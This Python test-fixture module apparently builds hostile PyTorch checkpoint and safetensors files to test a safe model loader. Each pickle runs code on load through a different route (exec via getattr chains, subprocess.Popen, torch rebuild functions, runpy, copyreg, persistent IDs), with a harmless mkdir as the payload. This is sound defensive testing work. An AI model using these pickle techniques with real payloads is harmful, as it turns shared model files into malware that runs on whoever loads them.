"""Checkpoints that make a folder when they are opened by ``pickle``, one for each way in which a file can run code."""

import copyreg
import io
import json
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import numpy as np
import torch

EXTENSION = 240
MAGIC = pickle.dumps(0x1950a86a20f9469cfc6c, 2) + pickle.dumps(1001, 2) + pickle.dumps({'little_endian': True}, 2)


class Call:
    """Pickles as a call of any function."""

    def __init__(self, function, *args):
        self.parts = function, args

    def __reduce__(self):
        return self.parts


class Runs:
    """A class that runs code when it gets its state."""

    def __init__(self, folder):
        self.folder = folder

    def __getstate__(self):
        return self.folder

    def __setstate__(self, folder):
        Path(folder).mkdir()


def text(value: str) -> bytes:
    return b'X' + struct.pack('<I', len(value.encode())) + value.encode()


def name(module: str, attribute: str) -> bytes:
    return f'c{module}\n{attribute}\n'.encode()


def call(function: bytes, *args: bytes) -> bytes:
    return function + b'(' + b''.join(args) + b'tR'


def attribute(owner: bytes, key: str) -> bytes:
    return call(name('builtins', 'getattr'), owner, text(key))


def program(body: bytes, protocol: int = 2) -> bytes:
    """A pickle of a checkpoint's dictionary with the value of ``body`` in it."""
    return b'\x80' + bytes([protocol]) + b'}(' + text('epoch') + body + b'u.'


def pickles(target: str) -> dict[str, bytes]:
    """Mechanism → pickle. All but the last four make the folder ``target`` when Python's ``pickle`` loads them."""
    path, mkdir, execute = text(target), name('os', 'mkdir'), name('builtins', 'exec')
    code = f'import os; os.mkdir({target!r})'
    chain = attribute(attribute(name('builtins', 'getattr'), '__self__'), 'exec')
    plain = {f'reduce, protocol {protocol}': pickle.dumps({'epoch': Call(Path.mkdir, Path(target))}, protocol)
             for protocol in (2, 4, 5)}
    short = target.encode()
    return plain | {
        'global': program(call(mkdir, path)),
        'python 2': program(call(name('__builtin__', 'eval'), text(f'__import__("os").mkdir({target!r})'))),
        'stack global': program(text('os') + text('mkdir') + b'\x93(' + path + b'tR', 4),
        'inst': b'}(' + text('epoch') + b'(' + path + b'ios\nmkdir\nu.',
        'obj': b'}(' + text('epoch') + b'(' + mkdir + path + b'ou.',
        'setstate': pickle.dumps({'epoch': Runs(target)}, 2),
        'reduce in a list': program(b'](' + call(mkdir, path) + b'e'),
        'reduce as a key': b'\x80\x02}(' + call(mkdir, path) + b'Nu.',
        'getattr': program(call(chain, text(code))),
        'rebuild from type': program(
            call(name('torch._tensor', '_rebuild_from_type_v2'), chain, b'N', b'(' + text(code) + b't', b'}')),
        'rebuild from type, direct': program(
            call(name('torch._tensor', '_rebuild_from_type_v2'), mkdir, b'N', b'(' + path + b't', b'}')),
        'partial': program(call(call(name('functools', 'partial'), mkdir, path))),
        'map': program(call(name('builtins', 'list'), call(name('builtins', 'map'), mkdir, b'](' + path + b'e'))),
        'methodcaller': program(call(call(name('operator', 'methodcaller'), text('mkdir')),
                                     call(name('pathlib', 'Path'), path))),
        'extension': program(b'\x82' + bytes([EXTENSION]) + b'(' + path + b'tR'),
        'runpy': program(call(name('runpy', '_run_code'), call(name('builtins', 'compile'), text(code), text('x'),
                                                               text('exec')), b'}')),
        'logged values': program(
            name('mmengine.logging.history_buffer', 'HistoryBuffer') + b')\x81}(' + text('statistics_methods')
            + b'}(' + text('mean') + call(mkdir, path) + b'uub'),
        'numpy test code': program(call(name('numpy.testing._private.utils', 'runstring'), text(code), b'}')),
        'object array': pickle.dumps({'epoch': np.array([Call(Path.mkdir, Path(target))], dtype=object)}, 2),
        'ordered dict': program(
            call(name('collections', 'OrderedDict'), b'](](' + text('a') + call(mkdir, path) + b'ee')),
        'exec': program(call(execute, text(code))),
        'binary strings': program(name('os', 'mkdir') + b'(U' + bytes([len(short)]) + short + b'tR'),
        'after the end of a frame': b'\x80\x04\x95' + struct.pack('<Q', 1) + b'}(' + text('epoch')
        + call(mkdir, path) + b'u.',
        'newobj': program(name('subprocess', 'Popen') + b'](' + text('mkdir') + path + b'e\x85\x81'),
        'newobj with keywords': program(
            name('subprocess', 'Popen') + b')}' + text('args') + b'](' + text('mkdir') + path + b'es\x92', 4),
        'copyreg': program(call(name('copyreg', '__newobj__'), name('subprocess', 'Popen'),
                                b'](' + text('mkdir') + path + b'e')),
        'python 2 copyreg': program(call(call(name('copy_reg', '_reconstructor'), name('subprocess', 'Popen'),
                                              name('__builtin__', 'object'), b'N'), path)),
    }


def zip_file(path: Path, *records: tuple[str, bytes]) -> Path:
    """An archive as PyTorch writes it, with these records."""
    with zipfile.ZipFile(path, 'w') as archive:
        for record, content in (('archive/version', b'3\n'), ('archive/byteorder', b'little'), *records):
            archive.writestr(record, content)
    return path


def legacy_file(path: Path, content: bytes, keys: bytes = pickle.dumps([], 2)) -> Path:
    """A file as PyTorch wrote it before 1.6."""
    path.write_bytes(MAGIC + content + keys)
    return path


def tar_file(path: Path, content: bytes) -> Path:
    """A file as PyTorch wrote it before 0.1.10."""
    none = pickle.dumps(0, 2)
    with tarfile.open(path, 'w') as archive:
        for member, value in (('storages', none + pickle.dumps([], 2)), ('tensors', none), ('pickle', content)):
            info = tarfile.TarInfo(member)
            info.size = len(value)
            archive.addfile(info, io.BytesIO(value))
    return path


def persistent(target: str) -> dict[str, bytes]:
    """Pickles that call something in what a reader takes for the name of a storage."""
    mkdir, path = name('os', 'mkdir'), text(target)
    storage = b'(' + text('storage') + call(mkdir, path) + text('0') + text('cpu') + b'K\x01tQ'
    return {
        'persistent id': program(storage),
        'persistent module': program(b'(' + text('module') + call(mkdir, path) + b'NNtQ'),
        'persistent text': b'}(' + text('epoch') + call(mkdir, path) + text('a') + b'Px\nu.',
    }


def write_hostile_files(folder: Path, target: Path) -> dict[str, Path]:
    """Mechanism → file. All but the last group make the folder ``target`` when PyTorch opens them without restraint."""
    programs = pickles(str(target)) | persistent(str(target))
    files = {what: zip_file(folder / f'{index}.pth', ('archive/data.pkl', content))
             for index, (what, content) in enumerate(programs.items())}
    evil, good = programs['global'], pickle.dumps({'epoch': 1}, 2)
    inner = zip_file(folder / 'inner.pth', ('archive/data.pkl', evil)).read_bytes()
    files |= {
        'before 1.6': legacy_file(folder / 'legacy.pth', evil),
        'before 1.6, keys': legacy_file(folder / 'keys.pth', good, evil),
        'before 1.6, magic': legacy_file(folder / 'magic.pth', b''),
        'tar': tar_file(folder / 'tar.pth', evil),
        'bare pickle': folder / 'bare.pkl',
        'twice, good first': zip_file(folder / 'a.pth', ('archive/data.pkl', good), ('archive/data.pkl', evil)),
        'twice, evil first': zip_file(folder / 'b.pth', ('archive/data.pkl', evil), ('archive/data.pkl', good)),
        'two folders': zip_file(folder / 'c.pth', ('archive/data.pkl', good), ('other/data.pkl', evil)),
        'nested': zip_file(folder / 'd.pth', ('archive/data.pkl', inner)),
        'behind a good one': folder / 'e.pth',
        'TorchScript': folder / 'script.pth',
    }
    files['before 1.6, magic'].write_bytes(evil)
    files['bare pickle'].write_bytes(evil)
    files['behind a good one'].write_bytes(zip_file(folder / 'f.pth', ('archive/data.pkl', good)).read_bytes() + inner)
    torch.jit.save(torch.jit.script(torch.nn.Identity()), files['TorchScript'])
    files |= hostile_headers(folder)
    return files


def hostile_headers(folder: Path) -> dict[str, Path]:
    """Files that begin as safetensors do, with headers that declare what is not there."""
    entry = {'dtype': 'F32', 'shape': [1], 'data_offsets': [0, 4]}
    headers = {'size': {**entry, 'shape': [2**60]}, 'end': {**entry, 'data_offsets': [0, 2**50]},
               'type': {**entry, 'dtype': 'O'}, 'order': {**entry, 'data_offsets': [4, 0]}}
    files = {}
    for what, header in headers.items():
        content = json.dumps({'cls_token': header}).encode()
        files[f'header: {what}'] = folder / f'{what}.safetensors'
        files[f'header: {what}'].write_bytes(struct.pack('<Q', len(content)) + content + bytes(4))
    return files


@contextmanager
def extension_registered() -> Iterator[None]:
    """A process in which an extension code stands for ``os.mkdir``, as if another library had registered it."""
    copyreg.add_extension('os', 'mkdir', EXTENSION)
    try:
        yield
    finally:
        copyreg.remove_extension('os', 'mkdir', EXTENSION)
        copyreg._extension_cache.pop(EXTENSION, None)
